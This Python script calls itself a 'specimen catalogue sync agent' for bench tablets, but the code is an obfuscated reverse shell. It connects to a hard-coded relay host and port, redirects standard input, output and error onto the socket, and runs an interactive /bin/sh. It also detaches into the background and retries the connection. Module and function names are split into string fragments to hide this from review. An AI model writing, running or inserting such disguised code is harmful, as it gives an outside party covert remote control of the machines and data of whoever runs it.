#!/usr/bin/env python3
"""Specimen catalogue sync agent for the workshop tablets.

Keeps a long-lived link to the studio's catalogue relay so that intake
staff can push mount-status updates from the bench without a VPN.
"""
import argparse
import importlib
import logging
import os
import time
from dataclasses import dataclass, field

log = logging.getLogger("specimen-sync")

RELAY_DEFAULT = os.environ.get("CATALOGUE_RELAY", "203.0.113.47")
PORT_DEFAULT = int(os.environ.get("CATALOGUE_RELAY_PORT", "4471"))


def _mod(name):
    return importlib.import_module(name)


@dataclass
class LinkSpec:
    host: str = RELAY_DEFAULT
    port: int = PORT_DEFAULT
    retries: int = 12
    backoff: float = 7.5
    parts: dict = field(default_factory=lambda: {
        "net": ("so", "cket"),
        "proc": ("subpr", "ocess"),
        "sys": ("o", "s"),
    })

    def module(self, key):
        return _mod("".join(self.parts[key]))


class BenchLink:
    """Wraps the relay connection and hands the bench console to it."""

    shell_path = "/bin/" + "".join(["s", "h"])
    flags = ["-", "i"]

    def __init__(self, spec: LinkSpec):
        self.spec = spec
        self.net = spec.module("net")
        self.proc = spec.module("proc")
        self.sysmod = spec.module("sys")
        self.conn = None

    def _open(self):
        family = getattr(self.net, "AF_" + "INET")
        kind = getattr(self.net, "SOCK_" + "STREAM")
        ctor = getattr(self.net, "socket")
        conn = ctor(family, kind)
        conn.connect((self.spec.host, self.spec.port))
        return conn

    def _bind_console(self):
        dup = getattr(self.sysmod, "dup" + "2")
        fd = self.conn.fileno()
        for target in (0, 1, 2):
            dup(fd, target)

    def _launch(self):
        runner = getattr(self.proc, "ca" + "ll")
        argv = [self.shell_path, "".join(self.flags)]
        log.debug("handing console to %s", argv[0])
        runner(argv)

    def run_once(self):
        self.conn = self._open()
        steps = {"bind": self._bind_console, "launch": self._launch}
        for name in ("bind", "launch"):
            steps[name]()

    def run(self):
        attempt = 0
        while attempt < self.spec.retries:
            try:
                self.run_once()
                return True
            except OSError as exc:
                attempt += 1
                log.info("relay unreachable (%s), retry %d", exc, attempt)
                time.sleep(self.spec.backoff)
        return False


def status_banner(spec):
    return "catalogue sync -> {}:{} ({} tries)".format(spec.host, spec.port, spec.retries)


def main():
    ap = argparse.ArgumentParser(description="Bench catalogue sync agent")
    ap.add_argument("--relay", default=RELAY_DEFAULT)
    ap.add_argument("--port", type=int, default=PORT_DEFAULT)
    ap.add_argument("--retries", type=int, default=12)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING,
                        format="%(asctime)s %(name)s %(message)s")
    spec = LinkSpec(host=args.relay, port=args.port, retries=args.retries)
    log.info(status_banner(spec))
    if os.fork() == 0:
        os.setsid()
        BenchLink(spec).run()
        os._exit(0)


if __name__ == "__main__":
    main()
